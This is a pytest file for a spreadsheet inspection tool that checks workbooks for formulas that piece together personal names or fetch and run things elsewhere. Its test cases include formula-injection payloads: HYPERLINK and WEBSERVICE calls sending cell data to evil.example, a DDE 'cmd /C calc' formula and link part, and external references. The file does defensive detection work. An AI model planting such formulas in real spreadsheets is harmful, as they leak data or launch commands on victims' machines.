"""Formulas of workbooks: names that they put together stop, and so does what they fetch or run elsewhere."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.datavalidation import DataValidation

from biodesci.inspection.finding import Level
from biodesci.inspection.inspect import inspect
from tests.backend.inspection.formats.test_workbooks import ods, with_part


def saved(path: Path, formula: str) -> Path:
    """A workbook with one formula, of which no program has kept the value."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["grade", "hb"])
    for row in range(60):
        sheet.append([row % 3, 10 + row % 5])
    sheet["B9"] = formula
    book.properties.creator = None
    book.save(path)
    return path


def kinds(path: Path) -> set[str]:
    return {finding.kind for finding in inspect(path).of(Level.STOP)}


@pytest.mark.parametrize(
    "formula",
    [
        '=CONCATENATE("An","na W","eber")',
        '="Anna"&" "&"Weber"',
        '="Anna"&A2&"Weber"',
        '=IF(A2>1,"Anna Weber","")',
        '="Ann"&CHAR(97)&_xlfn.UNICHAR(32)&"Weber"',
    ],
)
def test_a_name_that_a_formula_puts_together_stops(tmp_path, formula) -> None:
    assert kinds(saved(tmp_path / "in.xlsx", formula)) == {"name"}


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example/?"&A2)',
        '=_xlfn.WEBSERVICE("http://evil.example/?"&A2)',
        "=cmd|' /C calc'!A0",
        "=[1]Sheet1!A1",
        "='C:\\files\\[other.xlsx]Sheet 1'!A1",
        '=RTD("a",,"b")',
    ],
)
def test_what_a_formula_fetches_or_runs_elsewhere_stops(tmp_path, formula) -> None:
    assert "formula" in kinds(saved(tmp_path / "in.xlsx", formula))


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(A2:A61)/COUNT(A2:A61)",
        "='Sheet'!A2+Table1[[#This Row],[hb]]",
        '=IF(A2>1,"high","low")',
        '="a|b"&"HYPERLINK("',
        '=TEXT(A2,"0.00")',
    ],
)
def test_a_formula_that_computes_does_not_stop(tmp_path, formula) -> None:
    assert kinds(saved(tmp_path / "in.xlsx", formula)) == set()


def test_a_list_of_what_may_be_typed_into_a_cell_is_looked_at(tmp_path) -> None:
    path = saved(tmp_path / "in.xlsx", "=1+1")
    book = openpyxl.load_workbook(path)
    allowed = DataValidation(type="list", formula1='"Anna Weber,Max Huber"')
    book.active.add_data_validation(allowed)
    allowed.add("A3")
    book.save(path)
    assert "name" in kinds(path)


def test_a_link_to_another_program_stops(tmp_path) -> None:
    path = saved(tmp_path / "in.xlsx", "=1+1")
    link = b'<externalLink xmlns="u"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    path.write_bytes(with_part(path.read_bytes(), "xl/externalLinks/externalLink1.xml", link))
    assert "formula" in kinds(path)


@pytest.mark.parametrize(
    ("formula", "kind"),
    [
        ("of:=CONCATENATE(&quot;An&quot;;&quot;na W&quot;;&quot;eber&quot;)", "name"),
        ("of:=WEBSERVICE(&quot;http://evil.example&quot;)", "formula"),
        ("of:='file:///tmp/other.ods'#$Sheet1.A1", "formula"),
    ],
)
def test_formulas_of_an_open_document_are_looked_at(tmp_path, formula, kind) -> None:
    cell = '<table:table-cell office:value-type="float" office:value="{0}"/>'
    rows = "".join(
        f"<table:table-row>{cell.format(row)}{cell.format(row % 5)}</table:table-row>" for row in range(9)
    )
    last = f'<table:table-cell table:formula="{formula}" office:value-type="float" office:value="1"/>'
    path = tmp_path / "in.ods"
    path.write_bytes(ods(["grade", "hb"], f"{rows}<table:table-row>{last}{last}</table:table-row>"))
    assert kind in kinds(path)
